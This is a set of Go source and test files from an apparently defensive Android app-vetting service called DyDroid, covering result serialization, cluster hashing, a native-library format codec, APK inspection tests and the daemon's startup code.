		}
	}
}

func (h *reviewHooks) OnNativeLoad(api vm.NativeLoadAPI, libPath string, st []vm.StackElement) {
	h.loaded = append(h.loaded, libPath)
}

func (h *reviewHooks) OnFileDelete(string) bool         { return false }
func (h *reviewHooks) OnFileRename(string, string) bool { return false }
