package core

import (
	"encoding/json"
	"errors"
	"reflect"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/taint"
	"github.com/dydroid/dydroid/internal/vm"
)

func TestAppResultJSONRoundTrip(t *testing.T) {
	in := &AppResult{
		Package: "com.example",
		Status:  StatusCrash,
		Crash:   errors.New("boom at launch"),
		Events: []*DCLEvent{{
			Kind: KindDex, API: "DexClassLoader", Path: "/data/data/com.example/cache/a.dex",
			CallSite: "com.ads.Loader", Entity: EntityThirdParty,
			Provenance: ProvenanceRemote, SourceURL: "http://cdn.example/a.dex",
			Stack: []vm.StackElement{{Class: "com.ads.Loader", Method: "fetch"}},
		}},
		Malware: []MalwareHit{{Path: "/x", Kind: KindDex, Family: "swiss", Score: 0.93}},
		Vulns:   []Vulnerability{{Kind: VulnExternalStorage, Code: KindDex, Path: "/mnt/sdcard/p.dex"}},
		Privacy: &taint.Result{
			Leaks:       []taint.Leak{{Type: "imei", Class: "com.ads.Track", Method: "send"}},
			SourcesSeen: map[android.DataType]bool{"imei": true},
		},
		PrivacyByEntity: map[string]bool{"imei": true},
		RuntimeEvents:   []vm.Event{{Kind: "sms", Detail: "+900"}},
	}

	data, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	var out AppResult
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatal(err)
	}
	if out.Crash == nil || out.Crash.Error() != "boom at launch" {
		t.Fatalf("crash = %v", out.Crash)
	}
	// Compare everything else structurally with the error detached.
	in2 := *in
	in2.Crash = nil
	out.Crash = nil
	if !reflect.DeepEqual(&in2, &out) {
		t.Fatalf("round trip mismatch:\n in: %+v\nout: %+v", in2, out)
	}
}

func TestAppResultJSONNoCrash(t *testing.T) {
	in := &AppResult{Package: "com.ok", Status: StatusExercised}
	data, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	var out AppResult
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatal(err)
	}
	if out.Crash != nil {
		t.Fatalf("crash = %v", out.Crash)
	}
	if out.Package != "com.ok" || out.Status != StatusExercised {
		t.Fatalf("out = %+v", out)
	}
	// Marshal must be deterministic (the byte-identical serving contract).
	again, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != string(again) {
		t.Fatal("marshal not deterministic")
	}
}
