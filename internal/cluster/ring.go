// Package cluster is the horizontal-scale layer of the vetting service:
// a coordinator that consistent-hash-routes scan submissions by signing
// digest across N worker daemons, proxies result and trace reads to the
// owning node, and federates the fleet telemetry of every node into one
// mergeable measurement snapshot.
//
// Placement is a classic consistent-hash ring with virtual nodes: each
// worker contributes VNodes points (SHA-256 of "node#i"), a digest is
// owned by the first point clockwise of its hash, and removing a node
// moves only the keys that node owned. Membership is explicit-join —
// the operator names every worker up front — with liveness maintained by
// periodic /v1/healthz probes: a node failing K consecutive probes (or
// K consecutive request forwards) is ejected from the ring and rejoins
// automatically once it probes healthy again.
package cluster

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"math"
	"sort"
)

// DefaultVNodes is the virtual-node count per member. 64 points per node
// keeps the ownership share of a small cluster within a few percent of
// uniform while the ring stays tiny (N×64 points).
const DefaultVNodes = 64

// point is one virtual node on the ring.
type point struct {
	hash uint64
	node string
}

// Ring is a consistent-hash ring with virtual nodes. Placement is
// deterministic: the same member set yields the same ring regardless of
// join order. Ring is not safe for concurrent use; the Coordinator
// guards it with its membership lock.
type Ring struct {
	vnodes int
	points []point
	nodes  map[string]bool
}

// NewRing creates an empty ring with the given virtual-node count per
// member (<=0 picks DefaultVNodes).
func NewRing(vnodes int) *Ring {
	if vnodes <= 0 {
		vnodes = DefaultVNodes
	}
	return &Ring{vnodes: vnodes, nodes: make(map[string]bool)}
}

// hash64 maps a label to its ring position.
func hash64(s string) uint64 {
	sum := sha256.Sum256([]byte(s))
	return binary.BigEndian.Uint64(sum[:8])
}

// Add joins a node, inserting its virtual points. Adding a member twice
// is a no-op.
func (r *Ring) Add(node string) {
	if r.nodes[node] {
		return
	}
	r.nodes[node] = true
	for i := 0; i < r.vnodes; i++ {
		r.points = append(r.points, point{hash: hash64(fmt.Sprintf("%s#%d", node, i)), node: node})
	}
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].hash != r.points[j].hash {
			return r.points[i].hash < r.points[j].hash
		}
		return r.points[i].node < r.points[j].node
	})
}

// Remove ejects a node and its virtual points.
func (r *Ring) Remove(node string) {
	if !r.nodes[node] {
		return
	}
	delete(r.nodes, node)
	kept := r.points[:0]
	for _, p := range r.points {
		if p.node != node {
			kept = append(kept, p)
		}
	}
	r.points = kept
}

// Has reports whether node is currently on the ring.
func (r *Ring) Has(node string) bool { return r.nodes[node] }

// Len is the current member count.
func (r *Ring) Len() int { return len(r.nodes) }

// Nodes lists the current members in sorted order.
func (r *Ring) Nodes() []string {
	out := make([]string, 0, len(r.nodes))
	for n := range r.nodes {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// Owner returns the member owning key ("" on an empty ring).
func (r *Ring) Owner(key string) string {
	s := r.Successors(key, 1)
	if len(s) == 0 {
		return ""
	}
	return s[0]
}

// Successors returns up to n distinct members in ring order starting at
// key's owner — the failover sequence for that key.
func (r *Ring) Successors(key string, n int) []string {
	if len(r.points) == 0 || n <= 0 {
		return nil
	}
	h := hash64(key)
	start := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	seen := make(map[string]bool, n)
	var out []string
	for i := 0; i < len(r.points) && len(out) < n; i++ {
		p := r.points[(start+i)%len(r.points)]
		if !seen[p.node] {
			seen[p.node] = true
			out = append(out, p.node)
		}
	}
	return out
}

// Shares returns each member's fraction of the hash space — the expected
// share of scan traffic it owns.
func (r *Ring) Shares() map[string]float64 {
	shares := make(map[string]float64, len(r.nodes))
	if len(r.points) == 0 {
		return shares
	}
	const space = float64(math.MaxUint64)
	last := r.points[len(r.points)-1]
	// The arc from the highest point wraps around zero to the first point.
	shares[r.points[0].node] += (float64(r.points[0].hash) + space - float64(last.hash)) / space
	for i := 1; i < len(r.points); i++ {
		shares[r.points[i].node] += float64(r.points[i].hash-r.points[i-1].hash) / space
	}
	return shares
}
