package nativebin

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
)

// MagicSELF is the 4-byte magic of a SELF native library file.
const MagicSELF = "SELF"

// formatVersion is the single supported version.
const formatVersion = 1

// maxSaneCount bounds decoded counts so corrupted input fails fast.
const maxSaneCount = 1 << 24

// ErrNotSELF is wrapped by Decode when the magic is wrong.
var ErrNotSELF = fmt.Errorf("nativebin: not a SELF library")

// Encode serializes the library deterministically with a trailing CRC32.
func Encode(l *Library) ([]byte, error) {
	if err := l.Validate(); err != nil {
		return nil, fmt.Errorf("nativebin: encode: %w", err)
	}
	var body bytes.Buffer
	var tmp [binary.MaxVarintLen64]byte
	uv := func(v uint64) {
		n := binary.PutUvarint(tmp[:], v)
		body.Write(tmp[:n])
	}
	sv := func(v int64) {
		n := binary.PutVarint(tmp[:], v)
		body.Write(tmp[:n])
	}
	str := func(s string) {
		uv(uint64(len(s)))
		body.WriteString(s)
	}
	str(l.Soname)
	str(l.Arch)
	uv(uint64(len(l.Data)))
	body.Write(l.Data)
	uv(uint64(len(l.Symbols)))
	for _, s := range l.Symbols {
		str(s.Name)
		uv(uint64(s.Entry))
	}
	uv(uint64(len(l.Code)))
	for _, in := range l.Code {
		body.WriteByte(byte(in.Op))
		uv(uint64(in.Rd))
		uv(uint64(in.Rs))
		uv(uint64(in.Rt))
		sv(in.Imm)
		str(in.Sym)
		uv(uint64(in.Target))
	}

	var out bytes.Buffer
	out.WriteString(MagicSELF)
	out.WriteByte(formatVersion)
	var lenBuf [4]byte
	binary.LittleEndian.PutUint32(lenBuf[:], uint32(body.Len()))
	out.Write(lenBuf[:])
	out.Write(body.Bytes())
	binary.LittleEndian.PutUint32(lenBuf[:], crc32.ChecksumIEEE(body.Bytes()))
	out.Write(lenBuf[:])
	return out.Bytes(), nil
}

// IsSELF reports whether the bytes begin with the SELF magic.
func IsSELF(data []byte) bool {
	return len(data) >= 4 && string(data[:4]) == MagicSELF
}

// Decode parses a SELF library produced by Encode.
func Decode(data []byte) (*Library, error) {
	if len(data) < 13 {
		return nil, fmt.Errorf("%w: %d bytes is too short", ErrNotSELF, len(data))
	}
	if string(data[:4]) != MagicSELF {
		return nil, fmt.Errorf("%w: bad magic %q", ErrNotSELF, data[:4])
	}
	if data[4] != formatVersion {
		return nil, fmt.Errorf("nativebin: unsupported version %d", data[4])
	}
	bodyLen := binary.LittleEndian.Uint32(data[5:9])
	if int(bodyLen) != len(data)-13 {
		return nil, fmt.Errorf("nativebin: body length %d does not match file size %d", bodyLen, len(data))
	}
	body := data[9 : 9+bodyLen]
	if got, want := crc32.ChecksumIEEE(body), binary.LittleEndian.Uint32(data[9+bodyLen:]); got != want {
		return nil, fmt.Errorf("nativebin: checksum mismatch: got %08x want %08x", got, want)
	}

	r := &reader{data: body}
	l := &Library{
		Soname: r.str(),
		Arch:   r.str(),
	}
	nData := r.count()
	if r.err == nil {
		if r.pos+nData > len(r.data) {
			r.fail(fmt.Errorf("nativebin: truncated data segment"))
		} else {
			l.Data = append([]byte(nil), r.data[r.pos:r.pos+nData]...)
			r.pos += nData
		}
	}
	nSyms := r.count()
	for i := 0; i < nSyms && r.err == nil; i++ {
		l.Symbols = append(l.Symbols, Symbol{Name: r.str(), Entry: r.id()})
	}
	nCode := r.count()
	l.Code = make([]Instr, 0, min(nCode, 4096))
	for i := 0; i < nCode && r.err == nil; i++ {
		in := Instr{Op: Op(r.byte())}
		in.Rd = r.id()
		in.Rs = r.id()
		in.Rt = r.id()
		in.Imm = r.varint()
		in.Sym = r.str()
		in.Target = r.id()
		l.Code = append(l.Code, in)
	}
	if r.err != nil {
		return nil, r.err
	}
	if err := l.Validate(); err != nil {
		return nil, fmt.Errorf("nativebin: decode: %w", err)
	}
	return l, nil
}

type reader struct {
	data []byte
	pos  int
	err  error
}

func (r *reader) fail(err error) {
	if r.err == nil {
		r.err = err
	}
}

func (r *reader) byte() byte {
	if r.err != nil {
		return 0
	}
	if r.pos >= len(r.data) {
		r.fail(fmt.Errorf("nativebin: truncated at offset %d", r.pos))
		return 0
	}
	b := r.data[r.pos]
	r.pos++
	return b
}

func (r *reader) uvarint() uint64 {
	if r.err != nil {
		return 0
	}
	v, n := binary.Uvarint(r.data[r.pos:])
	if n <= 0 {
		r.fail(fmt.Errorf("nativebin: bad uvarint at offset %d", r.pos))
		return 0
	}
	r.pos += n
	return v
}

func (r *reader) varint() int64 {
	if r.err != nil {
		return 0
	}
	v, n := binary.Varint(r.data[r.pos:])
	if n <= 0 {
		r.fail(fmt.Errorf("nativebin: bad varint at offset %d", r.pos))
		return 0
	}
	r.pos += n
	return v
}

func (r *reader) id() int {
	v := r.uvarint()
	if v > maxSaneCount {
		r.fail(fmt.Errorf("nativebin: implausible value %d", v))
		return 0
	}
	return int(v)
}

func (r *reader) count() int { return r.id() }

func (r *reader) str() string {
	n := r.count()
	if r.err != nil {
		return ""
	}
	if r.pos+n > len(r.data) {
		r.fail(fmt.Errorf("nativebin: truncated string at offset %d", r.pos))
		return ""
	}
	s := string(r.data[r.pos : r.pos+n])
	r.pos += n
	return s
}
