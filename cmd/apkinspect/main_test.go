package main

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/obfuscation"
	"github.com/dydroid/dydroid/internal/trace"
)

func writeTestAPK(t *testing.T) string {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class("com.inspect.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 4, "V", "Landroid/os/Bundle;")
	m.NewInstance(1, "dalvik.system.DexClassLoader").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	nb := nativebin.NewBuilder("libdemo.so", "arm")
	nb.Symbol("JNI_OnLoad").MovI(0, 0).Ret()
	libBytes, err := nativebin.Encode(nb.Build())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.inspect", MinSDK: 16,
			Permissions: []apk.UsesPerm{{Name: "android.permission.INTERNET"}},
			Application: apk.Application{Activities: []apk.Component{{Name: "com.inspect.Main", Main: true}}}},
		Dex:        dexBytes,
		Assets:     map[string][]byte{"cfg.bin": {1, 2, 3}},
		NativeLibs: map[string][]byte{"libdemo.so": libBytes},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "demo.apk")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestInspectSummary(t *testing.T) {
	path := writeTestAPK(t)
	var out strings.Builder
	if err := run(&out, path, "", "", false); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"package:    com.inspect",
		"permission: android.permission.INTERNET",
		"component:  activity  com.inspect.Main",
		"class:      com.inspect.Main",
		"asset:      cfg.bin (3 bytes)",
		"native lib: libdemo.so",
		"pre-filter: dex-dcl=true native-dcl=true",
	} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("summary missing %q:\n%s", want, out.String())
		}
	}
}

func TestInspectSmaliAndLib(t *testing.T) {
	path := writeTestAPK(t)
	var out strings.Builder
	if err := run(&out, path, "com.inspect.Main", "", false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), ".class public Lcom/inspect/Main;") {
		t.Fatalf("smali output wrong:\n%s", out.String())
	}
	out.Reset()
	if err := run(&out, path, "", "libdemo.so", false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "JNI_OnLoad:") {
		t.Fatalf("lib disassembly wrong:\n%s", out.String())
	}
	if err := run(&out, path, "com.missing.Class", "", false); err == nil {
		t.Fatal("missing class accepted")
	}
	if err := run(&out, path, "", "libnone.so", false); err == nil {
		t.Fatal("missing lib accepted")
	}
}

func TestInspectAntiDecompileNeedsFixedVersion(t *testing.T) {
	// An anti-decompilation sample crashes the default tool but not -fixed.
	b := dex.NewBuilder()
	b.Class("com.adx.Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: "com.adx",
			Application: apk.Application{Activities: []apk.Component{{Name: "com.adx.Main", Main: true}}}},
		Dex: dexBytes,
	}
	ob, err := obfuscation.AddAntiDecompilation(a)
	if err != nil {
		t.Fatal(err)
	}
	data, err := apk.Build(ob)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "adx.apk")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := run(&out, path, "", "", false); err == nil {
		t.Fatal("buggy tool survived anti-decompilation")
	}
	if err := run(&out, path, "", "", true); err != nil {
		t.Fatalf("-fixed tool failed: %v", err)
	}
}

// buildTestTrace makes a small two-level span tree with a known digest.
func buildTestTrace(t *testing.T, digest string) *trace.Trace {
	t.Helper()
	tr := trace.New("analyze", trace.WithDigest(digest))
	ctx := trace.ContextWith(context.Background(), tr)
	_, s := trace.Start(ctx, "unpack")
	s.SetAttr("dex-dcl", "true")
	s.End()
	tr.Root.End()
	return tr
}

func TestTraceSubcommandFromStore(t *testing.T) {
	const digest = "aabbccddeeff00112233445566778899"
	dir := t.TempDir()
	st, err := trace.OpenStore(trace.StoreOptions{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.Put(buildTestTrace(t, digest)); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := runTrace(&out, []string{"-store", dir, digest}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"digest " + digest, "analyze", "unpack", "dex-dcl=true"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("rendered trace missing %q:\n%s", want, out.String())
		}
	}
	if err := runTrace(io.Discard, []string{"-store", dir, "0000000000000000"}); err == nil {
		t.Fatal("unknown digest rendered without error")
	}
}

func TestTraceSubcommandFromURL(t *testing.T) {
	const digest = "ffeeddccbbaa99887766554433221100"
	tr := buildTestTrace(t, digest)
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/trace/"+digest {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("X-Dydroid-Node", "worker-3")
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(tr)
	}))
	defer ts.Close()

	var out strings.Builder
	if err := runTrace(&out, []string{"-url", ts.URL, digest}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"worker subtree from worker-3", "digest " + digest, "analyze", "unpack"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("remote render missing %q:\n%s", want, out.String())
		}
	}
	if err := runTrace(io.Discard, []string{"-url", ts.URL, "0000000000000000"}); err == nil {
		t.Fatal("unknown remote digest rendered without error")
	}
}

func TestTraceSubcommandFromJSONL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "traces.jsonl")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := trace.EncodeJSONL(f, buildTestTrace(t, "11"), buildTestTrace(t, "22")); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := runTrace(&out, []string{path}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "digest 11") || !strings.Contains(out.String(), "digest 22") {
		t.Fatalf("JSONL render missing traces:\n%s", out.String())
	}
	if err := runTrace(io.Discard, []string{"-store", "", "nope.jsonl"}); err == nil {
		t.Fatal("missing file rendered without error")
	}
	if err := runTrace(io.Discard, nil); err == nil {
		t.Fatal("no-arg trace subcommand accepted")
	}
}
