// Command dydroidd is the online vetting daemon: an always-on HTTP
// service that accepts APK submissions, runs the marketplace Bouncer
// review plus the full DyDroid pipeline over each one, and serves
// verdicts from a durable content-addressed result store — the
// store-operator deployment of the paper's measurement.
//
// Usage:
//
//	dydroidd [-addr :8437] [-workers N] [-queue 64] [-store DIR]
//	         [-cache 512] [-seed 7] [-events 25] [-no-train] [-no-review]
//	         [-traces DIR] [-slow-deadline 0] [-logjson]
//	         [-profile-interval 30s] [-profile-window 250ms] [-profile-cap 32]
//	dydroidd -coordinator -nodes host1:8437,host2:8437[,...]
//	         [-addr :8437] [-probe-interval 2s] [-probe-failures 3]
//
// Endpoints: POST /v1/scan, GET /v1/result/{digest}, GET /v1/trace/{digest},
// GET /v1/healthz, GET /v1/metricz (?format=prom for Prometheus text
// exposition, including SLO burn-rate gauges), GET /v1/fleet (mergeable
// measurement snapshot with SLO state and ops events),
// GET /v1/events (lifecycle event journal as JSONL),
// GET /v1/dashboard (self-refreshing HTML fleet dashboard, ?refresh=N),
// GET /v1/version (build + format versions), runtime profiling under
// /debug/pprof/, and the continuous-profiling ring at GET /v1/profiles
// (index) and GET /v1/profiles/{id} (full window; ?format=pprof for the
// raw bytes). A background sampler captures short CPU-profile windows on
// the -profile-interval cadence; an SLO burn-rate alert or a
// -slow-deadline watchdog trip captures one immediately, tagged with the
// offending digest. Submit with curl:
//
//	curl --data-binary @app.apk http://localhost:8437/v1/scan
//	curl http://localhost:8437/v1/result/<digest>
//
// Served verdicts are byte-identical to a fresh `dydroid -json` run on
// the same APK with the same seed (with -no-review; otherwise the record
// additionally carries the Bouncer "review" block, which the CLI does
// not run). Every scan's analysis span tree is retained (in memory by
// default, on disk with -traces) and served at /v1/trace/{digest};
// responses that resolve a digest carry an X-Dydroid-Trace header. With
// -logjson the daemon emits one structured JSON log line per request.
// SIGINT/SIGTERM drain in-flight jobs before exit.
//
// With -coordinator the daemon analyzes nothing itself: it consistent-
// hash-routes scans across the worker daemons named by -nodes, proxies
// result reads to the owning node, serves stitched cross-node span trees
// at /v1/trace/{digest} (its own routing/failover spans with the owning
// worker's analysis tree grafted underneath), federates /v1/fleet and
// the /v1/events ops timeline across the whole ring, and serves per-node
// health at /v1/cluster/status.
// Workers that fail -probe-failures consecutive health probes are
// ejected from the ring (their keys fail over to ring successors) and
// rejoin automatically when probes recover.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"strings"
	"syscall"
	"time"

	"github.com/dydroid/dydroid/internal/bouncer"
	"github.com/dydroid/dydroid/internal/cluster"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/resultstore"
	"github.com/dydroid/dydroid/internal/service"
	"github.com/dydroid/dydroid/internal/telemetry"
	"github.com/dydroid/dydroid/internal/trace"
)

func main() {
	addr := flag.String("addr", ":8437", "listen address")
	workers := flag.Int("workers", runtime.GOMAXPROCS(0), "analysis worker pool size")
	queue := flag.Int("queue", 64, "submission queue depth (full queues answer 429)")
	storeDir := flag.String("store", "", "result store directory (empty = in-memory verdicts only)")
	cacheSize := flag.Int("cache", 512, "result store in-memory LRU entries")
	seed := flag.Int64("seed", 7, "fuzzing seed (verdicts are deterministic per seed)")
	events := flag.Int("events", 25, "monkey event budget per app")
	noTrain := flag.Bool("no-train", false, "skip DroidNative training (disables malware detection)")
	noReview := flag.Bool("no-review", false, "skip the Bouncer review phase")
	traceDir := flag.String("traces", "", "trace store directory (empty = in-memory traces only)")
	slowDeadline := flag.Duration("slow-deadline", 0, "log analyses exceeding this duration with their span tree (0 disables)")
	profileInterval := flag.Duration("profile-interval", 30*time.Second, "continuous-profiling sampler cadence (0 disables the background sampler; alert-triggered capture stays on)")
	profileWindow := flag.Duration("profile-window", 250*time.Millisecond, "CPU-profile window duration per capture")
	profileCap := flag.Int("profile-cap", 32, "retained profile windows (oldest evicted past this)")
	logJSON := flag.Bool("logjson", false, "structured JSON request logging on stderr")
	coordinator := flag.Bool("coordinator", false, "run as cluster coordinator instead of a worker (requires -nodes)")
	nodes := flag.String("nodes", "", "comma-separated worker daemon addresses the coordinator routes across")
	probeInterval := flag.Duration("probe-interval", 2*time.Second, "coordinator health-probe period")
	probeFailures := flag.Int("probe-failures", 3, "consecutive probe failures before a worker is ejected from the ring")
	flag.Parse()

	opts := daemonOptions{
		Addr: *addr, Workers: *workers, Queue: *queue, StoreDir: *storeDir,
		CacheSize: *cacheSize, Seed: *seed, Events: *events,
		NoTrain: *noTrain, NoReview: *noReview,
		TraceDir: *traceDir, SlowDeadline: *slowDeadline, LogJSON: *logJSON,
		ProfileInterval: *profileInterval, ProfileWindow: *profileWindow, ProfileCap: *profileCap,
		Coordinator: *coordinator, ProbeInterval: *probeInterval, ProbeFailures: *probeFailures,
	}
	if *nodes != "" {
		opts.Nodes = strings.Split(*nodes, ",")
	}
	if err := run(context.Background(), opts); err != nil {
		fmt.Fprintln(os.Stderr, "dydroidd:", err)
		os.Exit(1)
	}
}

// daemonOptions carries the flag set; tests drive run directly.
type daemonOptions struct {
	Addr      string
	Workers   int
	Queue     int
	StoreDir  string
	CacheSize int
	Seed      int64
	Events    int
	NoTrain   bool
	NoReview  bool
	TraceDir  string
	// SlowDeadline arms the service's slow-analysis watchdog (0 = off).
	SlowDeadline time.Duration
	// ProfileInterval is the continuous-profiling sampler cadence; 0
	// disables the cadence loop while alert-triggered capture stays on.
	ProfileInterval time.Duration
	// ProfileWindow is the CPU-profile duration per captured window.
	ProfileWindow time.Duration
	// ProfileCap bounds the retained window ring.
	ProfileCap int
	LogJSON    bool
	// LogWriter overrides the -logjson destination (default os.Stderr);
	// tests capture the access log here.
	LogWriter io.Writer
	// Ready, when non-nil, receives the bound listen address once the
	// daemon is serving.
	Ready func(addr string)

	// Coordinator mode: route scans across Nodes instead of analyzing.
	Coordinator   bool
	Nodes         []string
	ProbeInterval time.Duration
	ProbeFailures int
}

// run serves until the parent context is cancelled or a signal arrives,
// then drains.
func run(parent context.Context, o daemonOptions) error {
	if o.Coordinator {
		return runCoordinator(parent, o)
	}
	// The same minimal marketplace cmd/dydroid uses: training families,
	// the remote-payload network and companion apps.
	store, err := corpus.Generate(corpus.Config{Seed: o.Seed, Scale: 0.001})
	if err != nil {
		return err
	}
	var clf *droidnative.Classifier
	if !o.NoTrain {
		if clf, err = store.TrainingSet(3); err != nil {
			return err
		}
	}
	reg := metrics.New()
	var rs *resultstore.Store
	if o.StoreDir != "" {
		if rs, err = resultstore.Open(resultstore.Options{
			Dir: o.StoreDir, Version: service.RecordVersion, CacheSize: o.CacheSize,
		}); err != nil {
			return err
		}
	}
	var reviewer *bouncer.Reviewer
	if !o.NoReview {
		reviewer = &bouncer.Reviewer{Classifier: clf, Network: store.Network, Metrics: reg}
	}
	traces, err := trace.OpenStore(trace.StoreOptions{Dir: o.TraceDir, Metrics: reg})
	if err != nil {
		return err
	}
	var logger *slog.Logger
	if o.LogJSON {
		w := o.LogWriter
		if w == nil {
			w = os.Stderr
		}
		logger = slog.New(slog.NewJSONHandler(w, nil))
	}
	journal := events.NewJournal(0)
	profiles := profile.New(profile.Options{
		Node:      nodeName(o.Addr),
		WindowDur: o.ProfileWindow,
		Interval:  o.ProfileInterval,
		Cap:       o.ProfileCap,
		Journal:   journal,
		Metrics:   reg,
		Logger:    logger,
	})
	svc, err := service.New(service.Config{
		Analyzer: core.NewAnalyzer(core.Options{
			Seed: o.Seed, MonkeyEvents: o.Events, Classifier: clf,
			Network: store.Network, SetupDevice: store.SetupDevice, Metrics: reg,
		}),
		Reviewer:     reviewer,
		Store:        rs,
		Workers:      o.Workers,
		QueueDepth:   o.Queue,
		Metrics:      reg,
		Traces:       traces,
		Fleet:        telemetry.New(telemetry.Options{}),
		SlowDeadline: o.SlowDeadline,
		Journal:      journal,
		Profiles:     profiles,
		Logger:       logger,
		Node:         nodeName(o.Addr),
	})
	if err != nil {
		return err
	}

	ln, err := net.Listen("tcp", o.Addr)
	if err != nil {
		return err
	}
	httpSrv := &http.Server{Handler: svc.Handler()}
	ctx, stop := signal.NotifyContext(parent, os.Interrupt, syscall.SIGTERM)
	defer stop()
	// The runtime sampler keeps the dashboard's goroutine/heap gauges live.
	stopSampler := telemetry.StartRuntimeSampler(ctx, reg, telemetry.DefaultSampleInterval)
	defer stopSampler()
	// The continuous-profiling sampler captures cadence windows; alert-
	// triggered captures work either way.
	if o.ProfileInterval > 0 {
		go profiles.Run(ctx)
	}

	errc := make(chan error, 1)
	go func() {
		fmt.Fprintf(os.Stderr, "dydroidd: listening on %s (workers=%d queue=%d store=%q)\n",
			ln.Addr(), o.Workers, o.Queue, o.StoreDir)
		if o.Ready != nil {
			o.Ready(ln.Addr().String())
		}
		errc <- httpSrv.Serve(ln)
	}()

	select {
	case err := <-errc:
		return err
	case <-ctx.Done():
	}
	fmt.Fprintln(os.Stderr, "dydroidd: draining...")
	shutdownCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := httpSrv.Shutdown(shutdownCtx); err != nil && !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	if err := svc.Shutdown(shutdownCtx); err != nil {
		return err
	}
	fmt.Fprintln(os.Stderr, "dydroidd: drained, bye")
	return nil
}

// nodeName labels this daemon's journal events. The listen address is
// the name the coordinator's member list knows the node by; a bare
// ":port" address is qualified with the hostname so multi-host
// timelines stay readable.
func nodeName(addr string) string {
	if strings.HasPrefix(addr, ":") {
		if host, err := os.Hostname(); err == nil {
			return host + addr
		}
	}
	return addr
}

// runCoordinator serves the routing front-end: no analyzer, no result
// store of its own — every verdict lives on the worker that owns its
// digest, and the coordinator only places, proxies, and federates.
func runCoordinator(parent context.Context, o daemonOptions) error {
	reg := metrics.New()
	var logger *slog.Logger
	if o.LogJSON {
		w := o.LogWriter
		if w == nil {
			w = os.Stderr
		}
		logger = slog.New(slog.NewJSONHandler(w, nil))
	}
	// Route span trees land in the same -traces location workers use for
	// their analysis trees (in-memory when unset).
	traces, err := trace.OpenStore(trace.StoreOptions{Dir: o.TraceDir, Metrics: reg})
	if err != nil {
		return err
	}
	// The coordinator profiles itself too: its windows join the federated
	// /v1/profiles index under its own node name.
	profiles := profile.New(profile.Options{
		Node:      nodeName(o.Addr),
		WindowDur: o.ProfileWindow,
		Interval:  o.ProfileInterval,
		Cap:       o.ProfileCap,
		Metrics:   reg,
		Logger:    logger,
	})
	coord, err := cluster.New(cluster.Config{
		Nodes:         o.Nodes,
		ProbeInterval: o.ProbeInterval,
		ProbeFailures: o.ProbeFailures,
		Metrics:       reg,
		Traces:        traces,
		Profiles:      profiles,
		Node:          nodeName(o.Addr),
		Logger:        logger,
	})
	if err != nil {
		return err
	}
	defer coord.Close()

	ln, err := net.Listen("tcp", o.Addr)
	if err != nil {
		return err
	}
	httpSrv := &http.Server{Handler: coord.Handler()}
	ctx, stop := signal.NotifyContext(parent, os.Interrupt, syscall.SIGTERM)
	defer stop()
	if o.ProfileInterval > 0 {
		go profiles.Run(ctx)
	}

